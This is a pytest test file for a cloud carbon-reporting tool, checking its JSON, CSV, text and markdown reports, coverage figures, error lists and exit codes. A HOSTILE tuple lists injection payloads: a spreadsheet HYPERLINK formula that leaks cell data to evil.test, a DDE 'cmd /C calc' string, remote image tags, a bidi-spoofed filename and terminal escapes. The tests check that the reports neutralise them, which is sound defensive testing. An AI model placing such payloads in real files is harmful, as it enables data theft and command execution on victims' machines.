"""Report of a Snapshot: the same figures in four forms, and the exit code that goes with it."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from itertools import chain
from pathlib import Path
from typing import Any

import pytest

from cloud_carbon_exporter.cli import main
from cloud_carbon_exporter.commands.progress_bar import bar
from cloud_carbon_exporter.model.snapshot import ApiUse, Outcome, Snapshot, TargetState
from cloud_carbon_exporter.reporting import report
from cloud_carbon_exporter.reporting.coverage import coverage
from cloud_carbon_exporter.reporting.failures import failures
from cloud_carbon_exporter.reporting.tables import Section, as_markdown, as_text, figure
from tests.exposition import estate

TAGS = ("team", "cost-center")
pytestmark = pytest.mark.usefixtures("process_kept")
FORMS = ("text", "json", "csv", "markdown", "html")


def document() -> dict[str, Any]:
    told: dict[str, Any] = json.loads(report.as_json(estate.SNAPSHOT, TAGS))
    return told


def test_json_is_one_object_with_the_keys_of_the_contract() -> None:
    told = document()
    assert set(told) == {
        "taken_at",
        "totals",
        "resources",
        "coverage",
        "ledger",
        "errors",
        "api_cost",
    }
    assert told["taken_at"] == estate.TAKEN_AT
    assert told["totals"]["resources"] == 3
    assert told["totals"]["power_watts"]["value"] == 12.5 + 0 + 6
    machine = told["resources"][0]
    assert machine["cloud_resource_id"] == "arn:aws:ec2:eu-west-3:111111111111:instance/i-0abc"
    assert (machine["kind"], machine["cloud_region"], machine["tag_team"]) == (
        "ec2/instance",
        "eu-west-3",
        "web",
    )
    assert machine["power_watts"] == {
        "value": 12.5,
        "lower": 8.25,
        "upper": 20.75,
        "basis": "measured",
    }
    assert told["resources"][1]["operational_emissions_grams_per_second"] is None
    unsupported = told["ledger"][1]
    assert (unsupported["kind"], unsupported["basis"], unsupported["resources"]) == (
        "m99/thing",
        "unsupported",
        4,
    )
    (cost,) = told["api_cost"]["cost_dollars"]
    assert cost["dollars"] == 0.0125


def test_coverage_counts_what_is_there_and_how_well_it_is_known() -> None:
    assert document()["coverage"] == {
        "estimated": 1,
        "by_basis": {"measured": 1, "default": 0, "assumed": 0},
        "unsupported": 4,
        "listed": [
            {
                "cloud_provider": "aws",
                "cloud_account_id": "111111111111",
                "source": "resource-explorer",
                "resources": 5,
            }
        ],
        "ratio": 0.2,
    }


def test_without_another_inventory_coverage_is_not_known() -> None:
    assert coverage(replace(estate.SNAPSHOT, listed={}))["ratio"] is None


def test_every_failure_is_an_error() -> None:
    told = failures(estate.SNAPSHOT)
    assert [(error["what"], error["message"]) for error in told] == [
        ("target", "credentials refused"),
        ("listing", "Unreachable: no answer"),
        ("listing", "denied"),
        ("measurement", "AccessDenied"),
        ("objects", "2 could not be read: malformed"),
    ]


@pytest.mark.parametrize(
    "failed",
    [
        {"targets": (TargetState("a", "aws", False, "refused"),)},
        {"listings": (Outcome("aws", "1", "r", "k", "throttled"),)},
        {"measurements": (Outcome("aws", "1", "r", "k", "throttled"),)},
        {"api": ApiUse(skipped={("aws", "k", "KeyError"): 1})},
    ],
)
def test_each_kind_of_failure_alone_is_one(failed: dict[str, Any]) -> None:
    well = Snapshot(
        0.0, targets=(TargetState("a", "aws", True),), listings=(Outcome("aws", "1", "r", "k"),)
    )
    assert failures(well) == []
    assert len(failures(replace(well, **failed))) == 1


def test_csv_is_one_row_a_resource_with_units_in_the_names() -> None:
    rows = list(csv.DictReader(io.StringIO(report.as_csv(estate.SNAPSHOT, TAGS))))
    assert [row["cloud_resource_name"] for row in rows] == [
        "web-1",
        "bastion",
        "a-bucket",
    ]  # the largest first
    machine, _, bucket = rows
    assert (machine["power_watts"], machine["power_watts_lower"], machine["power_watts_upper"]) == (
        "12.5",
        "8.25",
        "20.75",
    )
    assert (machine["tag_team"], machine["tag_cost_center"], machine["host_type"]) == (
        "web",
        "42",
        "m5.large",
    )
    assert float(machine["measured_at_unix_seconds"]) == estate.TAKEN_AT - 240
    assert bucket["operational_emissions_grams_per_second"] == bucket["tag_team"] == ""
    assert (bucket["basis"], bucket["reason"]) == ("assumed", "unknown region eu")


@pytest.mark.parametrize("make", [report.as_text, report.as_markdown])
def test_the_readable_forms_hold_sum_groups_top_coverage_errors_and_bill(make: Any) -> None:
    text = make(estate.SNAPSHOT, TAGS)
    for word in (
        "2023-11-14 22:23:20 UTC",
        "Power drawn, PUE included",
        "18.5",  # the sum
        "By account",
        "By region",
        "By kind",
        "By tag_team",
        "web-1",
        "m5.large",
        "unknown region eu",
        "unsupported",
        "20%",
        "credentials refused",
        "0.0125",
        "3.75",
        "8 calls.",
    ):
        assert word in text
    assert "no month or year" in text
    assert "kWh" not in text  # of one look no energy is known


@pytest.mark.parametrize("form", FORMS)
def test_an_empty_snapshot_can_be_reported(form: str) -> None:
    make = {
        "text": report.as_text,
        "json": report.as_json,
        "csv": report.as_csv,
        "markdown": report.as_markdown,
        "html": report.as_html,
    }[form]
    assert make(estate.EMPTY, ())


def test_one_resource_is_no_resources(capsys: pytest.CaptureFixture[str]) -> None:
    for count, said in ((1, ("1 resource. Low", "Largest resource\n")), (2, ("2 resources. Low",))):
        main(["report", "-demo.enabled", f"-demo.resources={count}"])
        told = capsys.readouterr().out
        assert all(words in told for words in said)


def test_a_hostile_name_moves_no_cursor_and_breaks_no_table() -> None:
    resource = replace(estate.MACHINE.resource, name="a|b\x1b[2J\nc\x9b")
    hostile = replace(estate.SNAPSHOT, rows=(replace(estate.MACHINE, resource=resource),))
    assert "a|b\\x1b[2J\\nc\\x9b" in report.as_text(hostile, ())
    line = next(line for line in report.as_markdown(hostile, ()).splitlines() if "2J" in line)
    assert "a\\|b\\\\x1b[2J\\\\nc\\\\x9b" in line
    assert line.replace("\\|", "").count("|") == 10


HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\u202egnp.exe",
    "a\ud800b",
    "<img src=http://evil.test/x>",
    "![x](http://evil.test/x)",
)


def hostile_everywhere(name: str) -> Snapshot:
    """A Snapshot each of whose texts from outside is that name."""
    resource = estate.MACHINE.resource
    location = replace(resource.location, account_id=name, region=name, zone=name)
    named = replace(
        resource,
        id=name,
        name=name,
        location=location,
        tags=dict.fromkeys(TAGS, name),
        info=dict.fromkeys(resource.info, name),
    )
    failed = Outcome("aws", name, name, "ec2/instance", error=name)
    return replace(
        estate.SNAPSHOT,
        rows=(replace(estate.MACHINE, resource=named),),
        listings=(failed,),
        targets=(TargetState(name, "aws", up=False, error=name),),
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula(name: str) -> None:
    told = report.as_csv(hostile_everywhere(name), TAGS)
    assert told.encode()
    cells = list(chain.from_iterable(csv.reader(io.StringIO(told))))
    hostile = [cell for cell in cells if name.strip()[-4:] in cell]
    assert len(hostile) >= 5 or name == HOSTILE[10]
    for cell in cells:
        number = re.fullmatch(r"-?[\d.e+-]+", cell) and cell != "-2+3"
        assert number or cell.lstrip()[:1] not in {*"=+-@\uff1d"}, cell
        assert cell[:1] not in {"\t", "\r", "\n"}


@pytest.mark.parametrize("form", ["text", "markdown"])
@pytest.mark.parametrize("name", HOSTILE)
def test_no_report_holds_what_is_not_seen(name: str, form: str) -> None:
    make = {"text": report.as_text, "markdown": report.as_markdown}[form]
    told = make(hostile_everywhere(name), TAGS)
    assert told.encode()
    assert set("\t\r\x1b\u202e\ud800").isdisjoint(told)
    if form == "markdown":
        assert "<img" not in told and "](" not in told


def test_tables_align_numbers_to_the_right() -> None:
    section = Section("T", ("name", "W"), (("a", "1,000"), ("bcdef", "2.5")), ("note",))
    assert as_text([section]) == "T\n-\nname       W\na      1,000\nbcdef    2.5\nnote\n"
    assert as_markdown([section]) == (
        "## T\n\n| name | W |\n| --- | ---: |\n| a | 1,000 |\n| bcdef | 2.5 |\n\nnote\n"
    )
    assert as_text([Section("T", ("a",), (), ("None.",))]) == "T\n-\nNone.\n"
    assert as_markdown([Section("T", ("a",), (), ("None.",))]) == "## T\n\nNone.\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (0, "0"),
        (0.00004, "0.0000"),
        (0.01234, "0.0123"),
        (0.1, "0.100"),
        (0.99949, "0.999"),
        (0.9996, "1.00"),
        (9.994, "9.99"),
        (9.996, "10.0"),
        (99.96, "100"),
        (1234567.8, "1,234,568"),
    ],
)
def test_figures_have_three_digits_that_count(value: float, text: str) -> None:
    assert figure(value) == text


def test_the_bar_fills() -> None:
    assert bar(0, 0) == f"[{' ' * 30}] looking for regions"
    assert bar(0, 10) == f"[{' ' * 30}] 0/10 sweeps"
    assert bar(5, 10) == f"[{'#' * 15}{' ' * 15}] 5/10 sweeps"
    assert bar(7, 7) == f"[{'#' * 30}] 7/7 sweeps"


@pytest.mark.parametrize("form", FORMS)
def test_the_command_reports_the_demo(form: str, capsys: pytest.CaptureFixture[str]) -> None:
    asked = ["report", "-demo.enabled", "-demo.resources=20", f"-format={form}", "-log.level=error"]
    assert main(asked) == 0
    out, err = capsys.readouterr()
    assert "\x1b" not in out
    assert err == ""
    if form == "json":
        told = json.loads(out)
        assert len(told["resources"]) == told["totals"]["resources"] == 20
        assert [error["kind"] for error in told["errors"]] == ["ecr/repository"]
    elif form == "csv":
        rows = list(csv.DictReader(io.StringIO(out)))
        assert len(rows) == 20
        assert all(float(row["power_watts"]) >= 0 for row in rows)
    else:
        assert "20 resources." in out


@pytest.mark.parametrize(("words", "code"), [((), 0), (("-strict",), 1)])
def test_a_partial_report_is_a_failure_to_the_strict_alone(
    words: tuple[str, ...], code: int, capsys: pytest.CaptureFixture[str]
) -> None:
    """The demo estate holds one refused call, on purpose."""
    assert main(["report", "-demo.enabled", "-demo.resources=5", *words]) == code
    partial = "the report is partial (errors: 1); -strict makes its exit code 1"
    assert (partial in capsys.readouterr().err) == (not words)


def test_a_report_of_which_every_listing_failed_is_a_failure(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def nothing_listed(*_: object) -> Snapshot:
        failed = Outcome("aws", "1", "eu-west-3", "ec2/instance", "AccessDenied")
        return replace(estate.SNAPSHOT, listings=(failed,))

    monkeypatch.setattr("cloud_carbon_exporter.commands.report.collect", nothing_listed)
    assert main(["report", "-demo.enabled"]) == 1


def test_a_terminal_sees_how_far_it_is(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    monkeypatch.setattr("sys.stderr", screen)
    main(["report", "-demo.enabled"])
    shown = screen.getvalue()
    assert bar(0, 0) in shown
    assert shown.rpartition("\r\x1b[K")[2].count("\n") == 1  # nothing of it stays, but the log
    warning = re.search(r"(.*)\d{4}-\d\d-\d\dT[\d:.]+Z WARNING .*ecr:DescribeRepositories", shown)
    assert warning
    assert warning[1].endswith("\x1b[K")  # a log line does not stand behind the bar
    assert "\x1b" not in capsys.readouterr().out


def test_a_targets_own_tags_are_shown_instead_of_those_of_all(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "carbon.yml"
    path.write_text(
        "metrics: {tags: [team]}\ntargets: [{provider: demo, resources: 20, tags: [env]}]\n"
    )
    main(["report", f"-config.file={path}", "-format=json", "-log.level=error"])
    tags: set[str] = set()
    for resource in json.loads(capsys.readouterr().out)["resources"]:
        tags.update(key for key in resource if key.startswith("tag_"))
    assert tags == {"tag_env"}


def test_there_is_one_writer_of_csv() -> None:
    """Whoever writes one elsewhere writes formulas: it goes through csv_text.

    The demo's bill is what a cloud would have sent: it is read by us alone.
    """
    source = Path(report.__file__).parents[1]
    writes = re.compile(r"csv\.writer|DictWriter")
    writers = [
        str(path.relative_to(source))
        for path in sorted(source.rglob("*.py"))
        if writes.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == ["exposition/csv_text.py", "providers/demo/bill.py"]
